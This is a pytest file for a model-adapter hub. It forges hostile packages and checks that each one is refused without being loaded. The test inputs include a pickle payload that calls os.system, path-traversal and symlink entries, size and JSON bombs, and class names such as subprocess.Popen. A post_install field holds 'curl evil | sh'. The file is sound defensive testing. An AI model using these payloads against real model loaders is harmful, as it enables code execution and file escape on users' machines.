"""Hostile artifacts: each refused for its own reason, nothing of it loaded, nothing written outside."""

import hashlib
import json
import os
import pickle
import shutil
import struct
from pathlib import Path

import pytest

from adaptrans.hub import push
from adaptrans.hub.package import NAME
from adaptrans.hub.pull import pull, verify
from adaptrans.hub.verification.checks import REASONS, Refused

WEIGHTS = "adapters/nli/adapter.safetensors"
CONFIG = "adapters/nli/adapter_config.json"
HEAD = "heads/nli/head_config.json"


class Forge:
    """A hub with one artifact, `nli`, that its owner changes as only its owner can: with all hashes right."""

    def __init__(self, place: Path) -> None:
        self.place = place
        self.folder = next((place / "files" / "nli").iterdir())
        self.manifest = json.loads((self.folder / NAME).read_text())

    def path(self, name: str) -> Path:
        return self.folder / name

    def write(self, name: str, text: bytes) -> None:
        """Put a file into the package, listed with its hash."""
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text)
        self.list(name, len(text), hashlib.sha256(text).hexdigest())

    def list(self, name: str, size: int, sha256: str = "0" * 64) -> None:
        """List a file in the manifest."""
        others = [item for item in self.manifest["files"] if item["path"] != name]
        self.manifest["files"] = [*others, {"path": name, "size": size, "sha256": sha256}]

    def change(self, name: str, **values) -> None:
        """Change keys of a JSON file."""
        self.write(name, json.dumps({**json.loads(self.path(name).read_text()), **values}).encode())

    def tensors(self, **values) -> None:
        """Change tensors, by the end of their names."""
        from safetensors.numpy import load_file, save

        found = load_file(self.path(WEIGHTS))
        for end, change in values.items():
            name = next(name for name in found if name.endswith(end.replace("__", ".")))
            found[name] = change(found[name])
        self.write(WEIGHTS, save(found))

    def content(self) -> None:
        """Make the hash of the weights right again."""
        from adaptrans.modeling.manifest import read_manifest

        self.manifest["content"] = read_manifest(self.folder).content()

    def seal(self) -> None:
        """Make the hub's own hashes right again."""
        text = (json.dumps(self.manifest, indent=2, sort_keys=True) + "\n").encode()
        (self.folder / NAME).write_bytes(text)
        hashed = hashlib.sha256(text).hexdigest()
        self.folder = self.folder.rename(self.folder.with_name(hashed[:16]))
        record = self.place / "versions" / "nli@v1.json"
        record.write_text(json.dumps({**json.loads(record.read_text()), "manifest": hashed}))


def pickled(forge: Forge) -> None:
    class Payload:
        def __reduce__(self):
            return (os.system, (f"touch {forge.place}/ran",))

    forge.write(WEIGHTS, pickle.dumps(Payload(), protocol=4))
    forge.content()


def pickle_by_name(forge: Forge) -> None:
    forge.write("adapters/nli/pytorch_adapter.bin", pickle.dumps({}))


def climbing(forge: Forge) -> None:
    forge.list("../../../../escaped.json", 2)


def absolute(forge: Forge) -> None:
    forge.list("/tmp/escaped.json", 2)


def windows(forge: Forge) -> None:
    forge.list("C:\\escaped.json", 2)


def link(forge: Forge) -> None:
    secret = forge.place.parent / "secret"
    shutil.move(forge.path(WEIGHTS), secret)
    forge.path(WEIGHTS).symlink_to(secret)


def bomb(forge: Forge) -> None:
    forge.list(WEIGHTS, 1 << 45)


def understated(forge: Forge) -> None:
    size = forge.path(WEIGHTS).stat().st_size
    forge.list(WEIGHTS, size - 8)


def many(forge: Forge) -> None:
    for number in range(300):
        forge.list(f"adapters/a{number}/adapter_config.json", 2)


def wrong_hash(forge: Forge) -> None:
    text = bytearray(forge.path(WEIGHTS).read_bytes())
    text[-1] ^= 1
    forge.path(WEIGHTS).write_bytes(bytes(text))


def missing(forge: Forge) -> None:
    forge.path(WEIGHTS).unlink()


def unlisted_weights(forge: Forge) -> None:
    forge.manifest["files"] = [item for item in forge.manifest["files"] if item["path"] != WEIGHTS]
    forge.path(WEIGHTS).unlink()
    forge.content()


def executable(forge: Forge) -> None:
    forge.path("setup.py").write_text("print('run me')")
    forge.path("setup.py").chmod(0o755)


def listed_executable(forge: Forge) -> None:
    forge.write("adapters/nli/run.sh", b"#!/bin/sh\n")


def stray(forge: Forge) -> None:
    path = forge.path("adapters/other/adapter.safetensors")
    path.parent.mkdir()
    path.write_bytes(b"")


def depth(forge: Forge) -> None:
    forge.manifest["base"]["depth"] = 6


def width(forge: Forge) -> None:
    forge.manifest["base"]["width"] = 64


def vocabulary(forge: Forge) -> None:
    forge.manifest["base"]["vocabulary"] = 250002


def fingerprint(forge: Forge) -> None:
    forge.manifest["base"]["fingerprint"] = "a" * 64


def nan(forge: Forge) -> None:
    def spoil(value):
        value = value.copy()
        value.flat[3] = float("nan")
        return value

    forge.tensors(adapter_up__weight=spoil)
    forge.content()


def huge_shape(forge: Forge) -> None:
    text = forge.path(WEIGHTS).read_bytes()
    (length,) = struct.unpack("<Q", text[:8])
    header = json.loads(text[8 : 8 + length])
    name = next(key for key in header if key.endswith("adapter_up.weight"))
    header[name]["shape"] = [1 << 40, 1 << 40]
    made = json.dumps(header).encode()
    forge.write(WEIGHTS, struct.pack("<Q", len(made)) + made + text[8 + length :])
    forge.content()


def huge_header(forge: Forge) -> None:
    forge.write(WEIGHTS, struct.pack("<Q", 1 << 60) + b"{}")
    forge.content()


def overlapping(forge: Forge) -> None:
    part = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    header = json.dumps({"a": part, "b": part}).encode()
    forge.write(WEIGHTS, struct.pack("<Q", len(header)) + header + b"\0" * 8)
    forge.content()


def other_shape(forge: Forge) -> None:
    forge.tensors(adapter_up__weight=lambda value: value.T.copy())
    forge.content()


def fewer_tensors(forge: Forge) -> None:
    from safetensors.numpy import load_file, save

    found = load_file(forge.path(WEIGHTS))
    forge.write(WEIGHTS, save({name: value for name, value in found.items() if ".layer.3." not in name}))
    forge.content()


def other_class(forge: Forge) -> None:
    forge.change(CONFIG, model_class="subprocess.Popen")
    forge.content()


def other_architecture(forge: Forge) -> None:
    forge.change(CONFIG, config={"architecture": "evil"})
    forge.content()


def configuration_elsewhere(forge: Forge) -> None:
    forge.change(CONFIG, config="https://example.org/config.json")
    forge.content()


def other_head(forge: Forge) -> None:
    forge.change(HEAD, config={"head_type": "os.system", "num_labels": 3})
    forge.content()


def remote_code(forge: Forge) -> None:
    forge.change(CONFIG, auto_map={"AutoModel": "evil.Model"})
    forge.content()


def attention_of_an_adapter(forge: Forge) -> None:
    config = json.loads(forge.path(CONFIG).read_text())["config"]
    forge.change(CONFIG, config={**config, "inner": [{"_attn_implementation": "eager"}]})
    forge.content()


def attention_of_a_head(forge: Forge) -> None:
    config = json.loads(forge.path(HEAD).read_text())["config"]
    forge.change(HEAD, config={**config, "attn_implementation": "eager"})
    forge.content()


def attention_of_the_base(forge: Forge) -> None:
    forge.manifest["base"]["config"]["_attn_implementation_internal"] = "eager"


def attention_of_an_encoder(forge: Forge) -> None:
    config = {"model_type": "xlm-roberta", "_attn_implementation": "eager"}
    forge.write("backbone/config.json", json.dumps(config).encode())


def word_of_setups(forge: Forge) -> None:
    forge.manifest["target"] = "mix"


def alike(forge: Forge) -> None:
    forge.manifest["name"] = "nl\u0456"


def alike_path(forge: Forge) -> None:
    forge.list("adapters/nl\u0456/adapter.safetensors", 10)


def other_name(forge: Forge) -> None:
    forge.manifest["name"] = "other"


def not_json(forge: Forge) -> None:
    forge.write(CONFIG, b'{"config": NaN}')
    forge.content()


def deep_json(forge: Forge) -> None:
    forge.write(CONFIG, b"[" * 100_000)
    forge.content()


def other_content(forge: Forge) -> None:
    forge.manifest["content"] = "b" * 64


def other_key(forge: Forge) -> None:
    forge.manifest["inputs"]["seed"] = 7


def parent_of_itself(forge: Forge) -> None:
    own = forge.manifest
    folder = own["run"]["phase"] + "/" + own["run"]["label"] + "-" + own["run"]["key"]
    parent = {"reference": "nli", "run": own["run"], "content": "c" * 64, "name": "nli", "version": 1}
    own["parents"] = [{**parent, "manifest": "d" * 64}]
    forge.change(
        "artifact.json", parents={"nli": {"path": f"../../../{folder}/artifact", "content": "c" * 64}}
    )
    forge.content()


def stranger(forge: Forge) -> None:
    forge.manifest["post_install"] = "curl evil | sh"


def evaluation_phase(forge: Forge) -> None:
    forge.manifest["run"]["phase"] = "evaluate"


def climbing_label(forge: Forge) -> None:
    forge.manifest["run"]["label"] = "../../x"


CORPUS = [
    (pickled, "pickle"),
    (pickle_by_name, "pickle"),
    (climbing, "path"),
    (absolute, "path"),
    (windows, "path"),
    (link, "link"),
    (bomb, "size"),
    (understated, "size"),
    (many, "size"),
    (wrong_hash, "hash"),
    (missing, "missing"),
    (unlisted_weights, "missing"),
    (executable, "file type"),
    (listed_executable, "file type"),
    (stray, "unlisted"),
    (depth, "depth"),
    (width, "width"),
    (vocabulary, "vocabulary"),
    (fingerprint, "fingerprint"),
    (nan, "not finite"),
    (huge_shape, "header"),
    (huge_header, "header"),
    (overlapping, "header"),
    (other_shape, "shape"),
    (fewer_tensors, "tensors"),
    (other_class, "class"),
    (other_architecture, "class"),
    (configuration_elsewhere, "class"),
    (other_head, "class"),
    (remote_code, "class"),
    (attention_of_an_adapter, "class"),
    (attention_of_a_head, "class"),
    (attention_of_the_base, "class"),
    (attention_of_an_encoder, "class"),
    (word_of_setups, "name"),
    (alike, "look-alike"),
    (alike_path, "look-alike"),
    (other_name, "address"),
    (not_json, "json"),
    (deep_json, "json"),
    (other_content, "content"),
    (other_key, "key"),
    (parent_of_itself, "parent"),
    (stranger, "manifest"),
    (evaluation_phase, "manifest"),
    (climbing_label, "manifest"),
]


@pytest.fixture(scope="module")
def sound(trained, tmp_path_factory):
    place = tmp_path_factory.mktemp("sound") / "hub"
    push.push(trained.nli, trained.store, f"{place}/nli")
    return place


@pytest.fixture
def nothing_loads(monkeypatch):
    """Whatever reads weights for a model, or unpickles, fails the test."""
    import safetensors.torch
    import torch

    from adaptrans.modeling import safetensors_io

    def fail(*_, **__):
        pytest.fail("something was loaded")

    monkeypatch.setattr(safetensors_io, "load_file", fail)
    monkeypatch.setattr(safetensors.torch, "load_file", fail)
    monkeypatch.setattr(torch, "load", fail)
    monkeypatch.setattr(pickle, "load", fail)
    monkeypatch.setattr(pickle, "loads", fail)


def everything(folder: Path) -> set[str]:
    return {path.relative_to(folder).as_posix() for path in folder.rglob("*")}


@pytest.mark.parametrize(("attack", "reason"), CORPUS, ids=[attack.__name__ for attack, _ in CORPUS])
def test_a_hostile_artifact_is_refused_with_its_reason(attack, reason, sound, fresh, tmp_path, nothing_loads):
    place = tmp_path / "hub"
    shutil.copytree(sound, place)
    forge = Forge(place)
    attack(forge)
    forge.seal()
    before = everything(tmp_path)
    with pytest.raises(Refused) as caught:
        pull(f"{place}/nli", fresh.store, backbone=fresh.backbone)
    assert reason in {item.reason for item in caught.value.refusals}, caught.value.refusals
    assert fresh.store.runs() == []
    new = {name for name in everything(tmp_path) - before if not name.startswith("fresh")}
    assert new == set()
    assert not list((tmp_path / "fresh").rglob("*.safetensors"))
    assert not Path("/tmp/escaped.json").exists()
    if attack is not parent_of_itself:
        explained = verify(f"{place}/nli", backbone=fresh.backbone)
        assert reason in {item.reason for item in explained}
        assert all(item.reason in REASONS and item.message for item in explained)


def test_the_sound_one_is_not_refused(sound, fresh):
    assert verify(f"{sound}/nli", backbone=fresh.backbone) == []


def test_a_hub_that_swaps_a_manifest_is_told(sound, fresh, tmp_path):
    place = tmp_path / "hub"
    shutil.copytree(sound, place)
    forge = Forge(place)
    (forge.folder / NAME).write_text(json.dumps({**forge.manifest, "license": "mit"}))
    with pytest.raises(Refused, match=r"\[hash\] manifest.json"):
        pull(f"{place}/nli", fresh.store)


def test_another_parent_than_the_one_built_on_is_refused(trained, fresh, tmp_path):
    place = tmp_path / "hub"
    push.push(trained.nli, trained.store, f"{place}/nli")
    push.push(trained.target, trained.store, f"{place}/stack")
    forge = Forge(place)
    forge.manifest["license"] = "mit"
    forge.seal()
    with pytest.raises(Refused, match=r"\[parent\] manifest.json: is not the one that was built on"):
        pull(f"{place}/stack", fresh.store)
    assert fresh.store.runs() == []


def test_every_reason_is_met_in_the_corpus():
    met = {reason for _, reason in CORPUS}
    assert set(REASONS) - met == {"base"}
    assert len(CORPUS) >= 15


def test_a_base_that_contradicts_itself_is_refused(sound, fresh, tmp_path):
    place = tmp_path / "hub"
    shutil.copytree(sound, place)
    forge = Forge(place)
    forge.manifest["base"]["config"]["hidden_size"] = 48
    forge.seal()
    assert {item.reason for item in verify(f"{place}/nli")} == {"base"}
